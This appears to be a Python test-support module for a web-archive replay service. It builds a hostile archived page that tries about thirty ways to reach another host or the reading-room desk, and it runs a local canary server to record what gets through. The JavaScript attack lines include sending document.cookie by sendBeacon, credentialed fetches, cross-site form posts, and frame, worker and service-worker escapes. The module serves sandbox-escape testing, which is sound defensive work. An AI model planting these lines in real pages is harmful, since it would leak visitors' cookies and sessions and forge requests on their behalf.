"""Archived pages that try to act as our site or to reach another host, and who notices if they do.

Each attack is a line of script. `CANARY` is a host elsewhere, `DESK` the desk of the reading room.
After CVE-2023-45815 of ArchiveBox, and what browsers have learnt since.
"""

from __future__ import annotations

import asyncio
import contextlib
import http.server
import io
import json
import socket
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import uvicorn
from starlette.requests import Request
from starlette.responses import Response
from starlette.types import ASGIApp, Receive, Scope, Send

FRAME = "const f = document.createElement('iframe'); document.body.append(f);"
ATTACKS = {
    "fetch": "await fetch(CANARY + 'fetch', {mode: 'no-cors'})",
    "beacon": "navigator.sendBeacon(CANARY + 'beacon', document.cookie)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', CANARY + 'xhr', false); x.send()",
    "image": "new Image().src = CANARY + 'image'",
    "script": "const s = document.createElement('script'); s.src = CANARY + 'script';"
    " document.head.append(s)",
    "style": "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=' + CANARY"
    " + 'style>')",
    "import": "document.head.insertAdjacentHTML('beforeend', '<style>@import\"' + CANARY"
    " + 'import\"</style>')",
    "background": "document.body.style.backgroundImage = 'url(' + CANARY + 'background)'",
    "font": "await new FontFace('x', 'url(' + CANARY + 'font)').load()",
    "video": "const v = document.createElement('video'); v.src = CANARY + 'video'; v.load();"
    " document.body.append(v)",
    "events": "new EventSource(CANARY + 'events')",
    "websocket": "new WebSocket(CANARY.replace('http', 'ws') + 'websocket')",
    "frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=' + CANARY + 'frame>')",
    "object": "document.body.insertAdjacentHTML('beforeend', '<object data=' + CANARY + 'object>')",
    "embed": "document.body.insertAdjacentHTML('beforeend', '<embed src=' + CANARY + 'embed>')",
    "emptyframe": FRAME + " await f.contentWindow.fetch(CANARY + 'emptyframe', {mode:'no-cors'})",
    "srcdoc": FRAME + " f.srcdoc = '<img src=' + CANARY + 'srcdoc>'",
    "dataframe": FRAME + " f.src = 'data:text/html,<img src=' + CANARY + 'dataframe>'",
    "blobframe": FRAME + " f.src = URL.createObjectURL(new Blob(['<img src=' + CANARY"
    " + 'blobframe>'], {type: 'text/html'}))",
    "svgframe": FRAME + " f.src = URL.createObjectURL(new Blob(['<svg xmlns=\"http://www.w3.org/"
    '2000/svg"><script>fetch("\' + CANARY + \'svgframe", {mode:"no-cors"})</script></svg>\'],'
    " {type: 'image/svg+xml'}))",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + CANARY + 'worker\","
    ' {mode:"no-cors"})\'])))',
    "form": FRAME + " f.name = 'sent'; document.body.insertAdjacentHTML('beforeend', '<form id=q"
    " target=sent method=post action=' + CANARY + 'form></form>'); q.submit()",
    "prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=' + CANARY"
    " + 'prefetch>')",
    "preload": "document.head.insertAdjacentHTML('beforeend', '<link rel=preload as=image href='"
    " + CANARY + 'preload>')",
    "refresh": FRAME + " f.srcdoc = '<meta http-equiv=refresh content=\"0;url=' + CANARY"
    " + 'refresh\">'",
    "ping": "document.body.insertAdjacentHTML('beforeend', '<a id=g href=\"#x\" ping=' + CANARY"
    " + 'ping>x</a>'); g.click()",
    "desk": "await fetch(DESK + 'read', {credentials: 'include', mode: 'no-cors'})",
    "deskform": FRAME + " f.name = 'desk'; document.body.insertAdjacentHTML('beforeend',"
    " '<form id=d target=desk method=post action=' + DESK + 'add><input name=token></form>');"
    " d.submit()",
    "deskframe": FRAME + " f.src = DESK + 'framed'",
    "deskimage": "new Image().src = DESK + 'image'",
}
LAST = {
    "window": "window.open(CANARY + 'window')",
    "top": "top.location = CANARY + 'top'",
    "self": "location = CANARY + 'self'",
}
"""These lead the page away if they may, so they come last, one page each."""

KEPT_QUIET = frozenset({"prefetch", "ping", "preload"})
"""The browser may put these off, so that a test cannot wait for them where nothing guards."""


def page(canary: str, desk: str, attacks: dict[str, str]) -> bytes:
    """Write a page that tries all of them, and says so when it is through."""
    tried = "\n".join(
        f"  try {{ await (async () => {{ {line} }})() }} catch (e) {{ said.push('{name}: ' + e) }}"
        for name, line in attacks.items()
    ).replace("</script>", "<\\/script>")
    return f"""<!doctype html><title>hostile</title><body><h1>Archived words</h1><script>
const CANARY = {json.dumps(canary)}, DESK = {json.dumps(desk)}, said = [];
(async () => {{
  try {{ document.domain = '127.0.0.1' }} catch (e) {{}}
  try {{ said.push('cookie ' + document.cookie) }} catch (e) {{}}
  try {{ said.push('top ' + top.document.body.innerText) }} catch (e) {{}}
  try {{ top.postMessage({{type: 'go', url: CANARY}}, '*') }} catch (e) {{}}
  said.push('webrtc ' + typeof RTCPeerConnection);
  try {{ await navigator.serviceWorker.register('/sw.js') }} catch (e) {{}}
{tried}
  document.body.insertAdjacentHTML('beforeend', '<p id=through>through</p>');
  document.getElementById('through').title = said.join(' | ');
}})();
</script>""".encode()


class Noticed:
    """What came to whom."""

    def __init__(self) -> None:
        self.paths: set[str] = set()

    def note(self, path: str) -> None:
        """Keep the last part of a path."""
        self.paths.add(path.rpartition("/")[2].partition("?")[0])


class _Canary(http.server.BaseHTTPRequestHandler):
    noticed: Noticed

    def do_GET(self) -> None:
        self.noticed.note(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


@contextlib.contextmanager
def canary() -> Iterator[tuple[str, Noticed]]:
    """Serve a host elsewhere; gives its address and what came to it."""
    noticed = Noticed()
    handler = type("Canary", (_Canary,), {"noticed": noticed})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/", noticed
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


class Desk:
    """Stands where the desk does, keeps what it is asked, and hands a session to whoever logs in.

    Its cookie is weaker than ours: scripts may read it.
    """

    def __init__(self) -> None:
        self.noticed = Noticed()

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        """Serve one request (ASGI)."""
        path = Request(scope).url.path
        headers = {}
        if path.endswith("/login"):
            headers["Set-Cookie"] = "session=secret; Path=/"
        else:
            self.noticed.note(path)
        await Response("desk", headers=headers, media_type="text/html")(scope, receive, send)


def package(warc_dir: Path, url: str, at: str, place: Path) -> Path:
    """Write all records of an archive as a WACZ."""
    with zipfile.ZipFile(place, "w") as made:
        lines: list[bytes] = []
        for warc in sorted(warc_dir.rglob("*.warc.gz")):
            made.write(warc, f"archive/{warc.name}")
        for index in sorted(warc_dir.rglob("*.cdxj")):
            for line in index.read_bytes().splitlines():
                key, stamp, rest = line.split(b" ", 2)
                lines.append(b" ".join((key, stamp[:14], rest)))
        made.writestr("indexes/index.cdx", b"\n".join(sorted(lines)) + b"\n")
        pages = io.StringIO()
        pages.write('{"format": "json-pages-1.0", "id": "pages", "title": "All"}\n')
        ts = f"{at[:4]}-{at[4:6]}-{at[6:8]}T{at[8:10]}:{at[10:12]}:{at[12:14]}Z"
        pages.write(json.dumps({"id": "1", "url": url, "ts": ts, "title": "hostile"}) + "\n")
        made.writestr("pages/pages.jsonl", pages.getvalue())
        about = {"profile": "data-package", "wacz_version": "1.1.1", "resources": []}
        made.writestr("datapackage.json", json.dumps(about))
    return place


def free_listener() -> socket.socket:
    """Listen on a port of loopback that nobody has."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP)
    listener.bind(("127.0.0.1", 0))
    listener.listen(64)
    return listener


class _Server(uvicorn.Server):
    @contextlib.contextmanager
    def capture_signals(self) -> Iterator[None]:
        yield


@contextlib.contextmanager
def running(app: ASGIApp, listener: socket.socket) -> Iterator[None]:
    """Serve an app until the block ends."""
    server = _Server(uvicorn.Config(app, log_level="critical", lifespan="off", interface="asgi3"))
    thread = threading.Thread(target=lambda: asyncio.run(server.serve([listener])))
    thread.start()
    try:
        yield
    finally:
        server.should_exit = True
        thread.join(20)
        listener.close()
